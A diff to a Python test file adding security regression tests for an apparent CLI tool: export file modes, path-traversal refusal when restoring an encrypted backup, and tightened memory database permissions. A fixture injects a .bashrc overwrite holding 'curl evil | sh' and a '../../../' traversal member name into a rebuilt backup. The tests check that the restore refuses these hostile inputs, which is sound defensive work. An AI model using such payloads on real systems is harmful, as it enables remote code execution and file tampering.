@@ -125,5 +125,90 @@ def test_memory_export_writes_jsonl_without_confidential_crystals(tmp_path: Path
     texts = {doc["text"] for doc in lines}
     assert {text for text, _ in MEMORIES} <= texts and all("hunter2" not in t for t in texts)
     assert "confidential left out" in done.stdout
+    assert out.stat().st_mode & 0o777 == 0o600  # issue 13: it took the umask's mode (0644)
     refused = run_cli("memory", "export", str(out), "--data-dir", str(data), env=ENV)
     assert refused.returncode == 2 and "exists" in refused.stderr
+
+
+def rebuilt(archive: Path, passphrase: bytes, tmp: Path, extra: dict[str, bytes]) -> Path:
+    """``archive`` opened, ``extra`` members added to its tar and manifest (digests right), sealed again:
+    what someone handing a user a hostile backup can make."""
+    import hashlib
+    import io
+    import tarfile
+
+    from crypto.stream import StreamKey, decrypt_file, encrypt_file
+
+    key = StreamKey(passphrase=passphrase)
+    plain = io.BytesIO()
+    with archive.open("rb") as source:
+        decrypt_file(source, plain, key)
+    plain.seek(0)
+    out = io.BytesIO()
+    with tarfile.open(fileobj=plain, mode="r") as old, tarfile.open(fileobj=out, mode="w") as new:
+        manifest: dict[str, Any] = {}
+        for member in old.getmembers():
+            data = old.extractfile(member)
+            assert data is not None
+            if member.name == "manifest.json":
+                manifest = json.loads(data.read())
+            else:
+                new.addfile(member, data)
+        for name, content in extra.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(content)
+            new.addfile(info, io.BytesIO(content))
+            manifest["sha256"][name] = hashlib.sha256(content).hexdigest()
+        encoded = json.dumps(manifest).encode()
+        info = tarfile.TarInfo("manifest.json")
+        info.size = len(encoded)
+        new.addfile(info, io.BytesIO(encoded))
+    hostile = tmp / "hostile.bbk"
+    with hostile.open("wb") as sink:
+        encrypt_file(io.BytesIO(out.getvalue()), sink, key, meta={"format": "bitterbot-node/backup", "version": 1})
+    return hostile
+
+
+def test_a_restore_never_writes_outside_the_data_dir(tmp_path: Path) -> None:
+    """Issue 13: a member named workspace//abs/path was written to /abs/path (Path / "/abs" is absolute)."""
+    data, passphrase = make_node(tmp_path)
+    archive = tmp_path / "node.bbk"
+    cli(data, "backup", str(archive), "--passphrase-file", str(passphrase))
+    victim = tmp_path / "home" / ".bashrc"
+    victim.parent.mkdir()
+    victim.write_text("my shell settings\n")
+    escapes = {
+        f"workspace/{victim}": b"curl evil | sh\n",  # workspace//tmp/.../.bashrc
+        "workspace/a/../../../outside.txt": b"x",
+    }
+    for name, content in escapes.items():
+        hostile = rebuilt(archive, b"a long backup passphrase", tmp_path, {name: content})
+        target = tmp_path / "target"
+        refused = run_cli("restore", str(hostile), "--passphrase-file", str(passphrase), "--data-dir", str(target),
+                          env=ENV)  # fmt: skip
+        assert refused.returncode == 2, refused.stdout + refused.stderr
+        assert "outside" in refused.stderr and "nothing was changed" in refused.stderr
+        assert victim.read_text() == "my shell settings\n"
+        assert not (tmp_path / "outside.txt").exists() and not (target / "memory").exists()
+
+
+def test_memory_files_and_folders_are_the_owners_alone_and_old_ones_are_tightened(tmp_path: Path) -> None:
+    """Issue 13: the database, its WAL and the memory folders were created 0644 / 0755."""
+    data, _ = make_node(tmp_path)
+    cli(data, "memory", "dream")
+    db = data / "memory" / "crystals.db"  # the default [memory] db_file and [dream] workspace_dir
+    workspace = data / "workspace"
+    private = [db.parent, workspace, workspace / "memory"]
+    files = [db, workspace / "MEMORY.md", workspace / "memory" / "scratch.md"]
+    for folder in private:
+        assert folder.stat().st_mode & 0o777 == 0o700, folder
+    for file in files:
+        assert file.stat().st_mode & 0o777 == 0o600, file
+    # A data dir from an earlier release, opened up: the next command tightens it.
+    for folder in private:
+        os.chmod(folder, 0o755)
+    os.chmod(db, 0o644)
+    cli(data, "memory", "add", "The backup window is 02:00-04:00", "--type", "fact")
+    assert db.stat().st_mode & 0o777 == 0o600 and db.parent.stat().st_mode & 0o777 == 0o700
+    wal = db.with_name(db.name + "-wal")
+    assert not wal.exists() or wal.stat().st_mode & 0o777 == 0o600
